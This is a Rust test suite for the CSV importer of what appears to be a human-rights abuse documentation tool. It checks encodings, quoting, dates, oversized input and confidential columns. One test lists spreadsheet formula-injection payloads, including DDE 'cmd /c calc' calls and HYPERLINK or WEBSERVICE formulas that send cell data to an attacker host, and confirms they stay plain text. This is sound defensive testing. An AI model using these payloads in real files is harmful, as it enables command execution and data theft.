//! Tables as nobody should write them, and what only looks like one: each cell that comes in, or the exact refusal.
//! Every file is made here. No column is mapped, so what is compared is what the reader made of the bytes.

use std::fmt::Write as _;
use std::fs;
use std::path::Path;

use serde_json::Value;

use super::scene::{Ran, Scene, failed};

/// Imports a file of so many columns and maps none of them.
fn import(scene: &Scene, name: &str, bytes: &[u8], columns: usize, more: &[&str]) -> Ran {
    scene.write(name, bytes);
    let left: Vec<String> = (1..=columns).map(|column| format!("-=#{column}")).collect();
    let mut arguments = vec!["import", name, "--set", "violation=torture", "--json"];
    left.iter()
        .for_each(|column| arguments.extend(["--map", column]));
    arguments.extend(more);
    scene.run(&arguments)
}

/// The records as `LINE header=cell|header=cell`, empty cells left out.
fn rows(scene: &Scene) -> Vec<String> {
    let ran = scene.run(&["list", "--format", "jsonl", "--ceiling", "sealed"]);
    assert_eq!((ran.exit, ran.err.as_str()), (0, ""));
    let mut rows: Vec<(u64, String)> = ran.out.lines().map(row).collect();
    rows.sort();
    let told = |(line, cells)| format!("{line} {cells}");
    rows.into_iter().map(told).collect()
}

fn row(record: &str) -> (u64, String) {
    let record: Value = serde_json::from_str(record).expect("a JSON line");
    let pairs = record["unmapped"].as_array().cloned().unwrap_or_default();
    let text = |value: &Value| value.as_str().expect("a text").to_owned();
    let cells = pairs
        .iter()
        .map(|pair| format!("{}={}", text(&pair[0]), text(&pair[1])));
    let line = record["import"]["line"].as_u64().expect("a line");
    (line, cells.collect::<Vec<_>>().join("|"))
}

/// What the report says beside what came in: `WEIGHT LINE reason`, and what was skipped.
fn said(report: &str) -> Vec<String> {
    let report: Value = serde_json::from_str(report).expect("a report");
    let flaws = report["flaws"].as_array().expect("flaws").iter();
    let flaw = |flaw: &Value| {
        let text = |key: &str| flaw[key].as_str().unwrap_or_default().to_owned();
        let line = flaw["line"].as_u64().expect("a line");
        (
            line,
            format!("{} {line} {}", text("weight"), text("reason")),
        )
    };
    let mut flaws: Vec<(u64, String)> = flaws.map(flaw).collect();
    flaws.sort();
    let skipped = report["skipped"].as_object().expect("skipped").iter();
    let left_out = |(what, count): (&String, &Value)| {
        (count.as_u64() > Some(0)).then(|| format!("skipped {count} {what}"))
    };
    let flaws = flaws.into_iter().map(|(_, flaw)| flaw);
    flaws.chain(skipped.filter_map(left_out)).collect()
}

/// Every row of a table, then what is said of it.
fn read(bytes: &[u8], columns: usize) -> Vec<String> {
    let scene = Scene::made();
    let ran = import(&scene, "t.csv", bytes, columns, &[]);
    assert!(matches!(ran.exit, 0 | 3), "{ran:?}");
    let mut told = rows(&scene);
    told.extend(said(&ran.out));
    told
}

const ONE: &str = "2 title=a|date=2021-01-01|place=x|narrative=y";

fn table(rows: &str) -> Vec<u8> {
    format!("title,date,place,narrative\r\n{rows}").into_bytes()
}

fn utf16(text: &str, bytes: fn(u16) -> [u8; 2]) -> Vec<u8> {
    let text = format!("\u{feff}{text}");
    text.encode_utf16().flat_map(bytes).collect()
}

#[test]
fn marks_and_code_pages_are_found_and_cost_no_letter() {
    let marked = [b"\xef\xbb\xbf".to_vec(), table("a,2021-01-01,x,y\r\n")].concat();
    assert_eq!(read(&marked, 4), [ONE]);
    let aleppo = "title,date\r\nحلب,2021\r\n";
    for bytes in [
        utf16(aleppo, u16::to_le_bytes),
        utf16(aleppo, u16::to_be_bytes),
    ] {
        assert_eq!(read(&bytes, 2), ["2 title=حلب|date=2021"]);
    }
    assert_eq!(
        read(b"title,date\r\n\xc7\xda\xca\xde\xc7\xe1,2021\r\n", 2),
        ["2 title=اعتقال|date=2021"]
    );
    assert_eq!(
        read(b"title,date\r\nJos\xe9 \x93x\x94,2021\r\n", 2),
        ["2 title=José “x”|date=2021"]
    );
}

#[test]
fn a_row_with_bytes_of_another_code_page_stays_out_whole() {
    let bytes = [&table("José,2021,x,")[..], b"Jos\xe9\r\nb,2022,x,y\r\n"].concat();
    assert_eq!(
        read(&bytes, 4),
        [
            "3 title=b|date=2022|place=x|narrative=y",
            "refused 2 undecodable"
        ]
    );
}

#[test]
fn lines_end_as_they_like_and_cells_are_parted_as_they_are() {
    assert_eq!(
        read(b"title,date,place,narrative\ra,2021-01-01,x,y\r", 4),
        [ONE]
    );
    assert_eq!(
        read(b"title,date\ra,1\nb,2\r\nc,3", 2),
        ["2 title=a|date=1", "3 title=b|date=2", "4 title=c|date=3"]
    );
    assert_eq!(
        read(b"title;date;place;narrative\r\na;2021-01-01;x;1,5\r\n", 4),
        ["2 title=a|date=2021-01-01|place=x|narrative=1,5"]
    );
    assert_eq!(
        read(
            b"title\tdate\tplace\tnarrative\r\na\t2021-01-01\tx\ty\r\n",
            4
        ),
        [ONE]
    );
    assert_eq!(
        read(b"sep=;\r\ntitle;date\r\na;2021\r\n", 2),
        ["3 title=a|date=2021"]
    );
}

#[test]
fn what_stands_above_and_below_a_table_is_no_row_of_it() {
    let commented = [
        b"# exported 2021\r\n".to_vec(),
        table("a,2021-01-01,x,y\r\n"),
    ]
    .concat();
    let one = "3 title=a|date=2021-01-01|place=x|narrative=y";
    assert_eq!(read(&commented, 4), [one]);
    let report = [
        b"Ministry report\r\n\r\n".to_vec(),
        table("a,2021-01-01,x,y\r\n\r\nTotal,1\r\n"),
    ];
    // Without a date or an id that every row above has, nobody can say that the last one is no row.
    assert_eq!(
        read(&report.concat(), 4),
        [
            "4 title=a|date=2021-01-01|place=x|narrative=y",
            "6 title=Total|date=1",
            "noted 6 missing_cells",
            "skipped 1 blank"
        ]
    );
    assert_eq!(read(&table(""), 4), [""; 0]);
}

#[test]
fn headers_may_repeat_or_be_blank_and_rows_may_be_short_or_long() {
    assert_eq!(
        read(b"title,title,date\r\na,b,2021\r\n", 3),
        ["2 title=a|title 2=b|date=2021"]
    );
    assert_eq!(
        read(b"title,,date\r\na,b,2021\r\n", 3),
        ["2 title=a|#2=b|date=2021"]
    );
    assert_eq!(
        read(b"title,date,\r\na,2021,\r\n", 3),
        ["2 title=a|date=2021"]
    );
    assert_eq!(
        read(&table("a\r\na,b,c,d,e,f\r\n"), 4),
        [
            "2 title=a",
            "noted 2 missing_cells",
            "refused 3 extra_cells"
        ]
    );
}

#[test]
fn quotes_part_cells_only_where_a_cell_begins_with_one() {
    assert_eq!(
        read(&table("a \"b\" c,2021-01-01,x,\"y \"z\" w\"\r\n"), 4),
        [
            "2 title=a \"b\" c|date=2021-01-01|place=x|narrative=y z\" w\"",
            "noted 2 stray_quote"
        ]
    );
    assert_eq!(
        read(&table(&"\"a,2021-01-01,x,y\r\n".repeat(3)), 4),
        ["refused 2 stray_quote", "refused 4 unclosed_quote"]
    );
    assert_eq!(
        read(b"n,said\n1,\"he said \"\"no\"\" twice\"\n2,\"\"\n3,x\n", 2),
        ["2 n=1|said=he said \"no\" twice", "3 n=2", "4 n=3|said=x"]
    );
    assert_eq!(
        read(b"n,point\n1,\"{\"\"at\"\": [1.5, -2]}\"\n", 2),
        ["2 n=1|point={\"at\": [1.5, -2]}"]
    );
    assert_eq!(
        read(
            "n,where,town\n1,\"Calle 1, casa 2\",Río Seco\n2,12°6'3.1\"S 77\u{fffd}2'17.9\"W,ʤ"
                .as_bytes(),
            3
        ),
        [
            "2 n=1|where=Calle 1, casa 2|town=Río Seco",
            "3 n=2|where=12°6'3.1\"S 77\u{fffd}2'17.9\"W|town=ʤ"
        ]
    );
}

#[test]
fn line_ends_within_a_cell_stay_as_they_are_written() {
    assert_eq!(
        read(b"a,b,c\n1,2,3\n\"Once upon \na time\",5,6\n7,8,9\n", 3),
        [
            "2 a=1|b=2|c=3",
            "3 a=Once upon \na time|b=5|c=6",
            "5 a=7|b=8|c=9"
        ]
    );
    assert_eq!(
        read(b"a,b\r\n\"x \r\n\"\"y\"\" \r\nz\",5\r\n7,8\r\n", 2),
        ["2 a=x \r\n\"y\" \r\nz|b=5", "5 a=7|b=8"]
    );
}

#[test]
fn what_is_no_table_is_refused_by_its_name_and_nothing_is_added() {
    for (bytes, said) in [
        (&b""[..], "is empty"),
        (b"\xef\xbb\xbf", "is empty"),
        (b"\r\n\r\n\r\n\r\n\r\n", "is empty"),
        (
            b"<!doctype html><html><body>Login</body></html>",
            "is no table of text: HTML page",
        ),
        (
            b"\x89PNG\r\n\x1a\n\0\x01\x02 and so on",
            "is no table of text: PNG image",
        ),
        (
            b"SQLite format 3\0\0\0\0\0\0\0\0\0",
            "is no table of text: SQLite database",
        ),
    ] {
        let scene = Scene::made();
        let ran = import(&scene, "t.csv", bytes, 0, &[]);
        assert_eq!(
            ran,
            failed(1, &format!("error: t.csv {said}\n  Nothing was added.\n"))
        );
        assert_eq!(scene.files(), ["a.testigo", "t.csv"]);
    }
}

#[test]
fn formulas_and_control_characters_are_texts_and_stay_so() {
    let formulas = [
        "=1+1",
        "=cmd|'/c calc'!A1",
        "=HYPERLINK(\"https://attacker.invalid/?\"&A1,\"open\")",
        "=WEBSERVICE(\"https://attacker.invalid/\"&B2)",
        "+1+1",
        "+96512345678",
        "-1-1",
        "-5",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{200b}=1+1",
        "\u{feff}=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "\"=1+1\"",
        ";=1+1",
        "%0A=1",
        "|calc",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "a\0b",
    ];
    kept_as_written(&formulas.map(str::to_owned));
    let path =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/hostile/terminal-escapes.jsonl");
    let escapes = fs::read_to_string(path).expect("the escapes");
    let escapes: Vec<String> = escapes.lines().map(escape).collect();
    assert_eq!(escapes.len(), 57);
    kept_as_written(&escapes);
}

#[test]
fn the_guard_that_keeps_a_text_from_being_a_formula_is_taken_off_again() {
    let file = b"n,text\n1,'=1+1\n2,'x\n3,''\n";
    assert_eq!(
        read(file, 2),
        ["2 n=1|text==1+1", "3 n=2|text='x", "4 n=3|text=''"]
    );
}

fn escape(line: &str) -> String {
    let line: Value = serde_json::from_str(line).expect("a JSON line");
    let bytes = crate::hostile::base64(line["b64"].as_str().expect("b64"));
    String::from_utf8(bytes).expect("these are UTF-8")
}

/// One row each: its text comes in as the file has it, and goes out of it only made harmless.
fn kept_as_written(texts: &[String]) {
    let mut file = String::from("text,end\r\n");
    for text in texts {
        let quoted = text.replace('"', "\"\"");
        write!(file, "\"{quoted}\",x\r\n").expect("to a String");
    }
    let scene = Scene::made();
    let ran = import(&scene, "t.csv", file.as_bytes(), 2, &[]);
    assert_eq!((ran.exit, said(&ran.out)), (0, Vec::new()));
    let ran = scene.run(&["list", "--format", "jsonl", "--ceiling", "sealed"]);
    let is_harmless = |c: char| c == '\n' || !c.is_control();
    assert!(ran.out.chars().all(is_harmless), "raw control characters");
    let mut came: Vec<(u64, String)> = ran.out.lines().map(row).collect();
    came.sort();
    assert_eq!(came.len(), texts.len());
    for ((line, cells), text) in came.into_iter().zip(texts) {
        // A cell of white space alone says nothing.
        let wanted = match text.trim() {
            "" => "end=x".to_owned(),
            _ => format!("text={text}|end=x"),
        };
        assert!(cells == wanted, "line {line}: {:.200}", format!("{text:?}"));
    }
}

#[test]
fn twenty_thousand_columns_and_a_cell_of_two_megabytes_come_in_whole() {
    let header: Vec<String> = (0..20_000).map(|column| format!("c{column}")).collect();
    let wide = format!("{}\r\n{}\r\n", header.join(","), ["x"; 20_000].join(","));
    let cells: Vec<String> = header.iter().map(|name| format!("{name}=x")).collect();
    assert!(read(wide.as_bytes(), 0) == [format!("2 {}", cells.join("|"))]);

    let long = "lorem ipsum ".repeat(174_000);
    let told = read(&table(&format!("a,2021-01-01,x,\"{long}\"\r\n")), 4);
    let kept = long.trim_end();
    assert_eq!(told.len(), 1);
    assert!(told[0].trim_end() == format!("2 title=a|date=2021-01-01|place=x|narrative={kept}"));
}

#[test]
fn ten_thousand_equal_rows_are_ten_thousand_reports_and_none_the_second_time() {
    let scene = Scene::made();
    let bytes = table(&"a,2021-01-01,x,y\r\n".repeat(10_000));
    let counts = |ran: &Ran| {
        let report: Value = serde_json::from_str(&ran.out).expect("a report");
        [&report["new"], &report["unchanged"]].map(|count| count.as_u64().expect("a count"))
    };
    let ran = import(&scene, "t.csv", &bytes, 4, &[]);
    assert_eq!(counts(&ran), [10_000, 0]);
    let came = rows(&scene);
    let wanted = (2..10_002).map(|line| ONE.replacen('2', &line.to_string(), 1));
    assert!(came.into_iter().eq(wanted));
    let ran = import(&scene, "t.csv", &bytes, 4, &[]);
    assert_eq!(counts(&ran), [0, 10_000]);
}

#[test]
fn each_date_is_as_exact_as_it_is_written_or_refused() {
    let dates = [
        "2021-13-45",
        "31/02/2021",
        "03/04/2021",
        "44256",
        "2021",
        "2021-03",
        "Mar 2021",
        "c. 2021",
        "before 2019",
        "0000-00-00",
        "99999-01-01",
        "1399/12/14",
        "٢٠٢١",
        "2021-03-04T10:00:00+25:00",
        "12/2021",
        "",
    ];
    let file: String = dates.iter().map(|date| format!("x,{date}\r\n")).collect();
    let scene = Scene::made();
    scene.write("t.csv", format!("title,date\r\n{file}"));
    let set = ["import", "t.csv", "--set", "violation=torture", "--json"];
    let asked = scene.run(&set);
    // A day that no calendar has proves no order.
    assert_eq!(asked.exit, 2);
    assert!(asked.err.contains("\"03/04/2021\""), "{}", asked.err);
    let ran = scene.run(&[&set[..], &["--date-order", "dmy"]].concat());
    assert_eq!(ran.exit, 3);
    let list = scene
        .run(&["list", "--format", "jsonl", "--ceiling", "sealed"])
        .out;
    let mut came: Vec<String> = list.lines().map(dated).collect();
    came.sort();
    // What has no year of four digits is no date.
    assert_eq!(
        came,
        [
            "04 2021-04-03",
            "06 2021",
            "07 2021-03",
            "08 2021-03",
            "09 2021~",
            "10 [..2018-12-31]",
            "11 unknown",
            "13 1399-12-14",
            "15 2021-03-04",
            "16 2021-12",
            "17 unknown"
        ]
    );
    assert_eq!(
        said(&ran.out),
        [
            "refused 2 impossible_date",
            "refused 3 impossible_date",
            "refused 5 unreadable_date",
            "refused 12 unreadable_date",
            "noted 13 long_ago",
            "refused 14 unreadable_date"
        ]
    );
}

fn dated(record: &str) -> String {
    let record: Value = serde_json::from_str(record).expect("a JSON line");
    let edtf = record["date"]["edtf"].as_str().unwrap_or("unknown");
    let line = record["import"]["line"].as_u64().expect("a line");
    format!("{line:02} {edtf}")
}

#[test]
fn a_line_of_sums_that_names_its_unit_is_no_death() {
    let scene = Scene::made();
    let table = "#,date,facility,violation,victim_name\n1,2023-03-15,Cerro Gris,torture,Ana Uno\n\
                 2,2023-04-02,Cerro Gris,torture,Luis Dos\nTotal,,,,2 victims\n";
    scene.write("abuse.csv", table);
    let done = scene.run(&["import", "abuse.csv"]);
    assert!(done.out.contains("\nnew           2\n"), "{}", done.out);
    assert!(done.out.contains("line 4: Total"), "{}", done.out);
}

#[test]
fn a_column_that_says_what_is_confidential_is_never_left_out_in_silence() {
    let scene = Scene::made();
    let table = "Fecha,Centro,Tipo de abuso,Confidencial\n2023-03-15,Cerro Gris,tortura,sí\n";
    scene.write("denuncias.csv", table);
    let stopped = scene.run(&["import", "denuncias.csv"]);
    for option in [
        "--map confidentiality=Confidencial",
        "--map 'violation=Tipo de abuso'",
    ] {
        assert!(stopped.err.contains(option), "{}", stopped.err);
    }
}

#[test]
fn free_texts_of_what_was_done_are_refused_with_the_options_that_keep_their_words() {
    let scene = Scene::made();
    scene.write(
        "abuse.csv",
        "Fecha,Tipo de abuso\n2023-03-15,le quitaron la comida\n",
    );
    let refused = scene.run(&["import", "abuse.csv", "--map", "violation=Tipo de abuso"]);
    let option = "free texts: --set violation=other with --map 'other_violation=Tipo de abuso', in the place of --map \
                  violation, keeps each in its own words\n";
    assert!(refused.out.contains(option), "{}", refused.out);
    let (set, map) = ("violation=other", "other_violation=Tipo de abuso");
    let kept = scene.run(&["import", "abuse.csv", "--set", set, "--map", map]);
    assert_eq!(kept.exit, 0, "{}", kept.err);
    assert!(
        scene
            .run(&["show", "T-0001"])
            .out
            .contains("le quitaron la comida")
    );
}
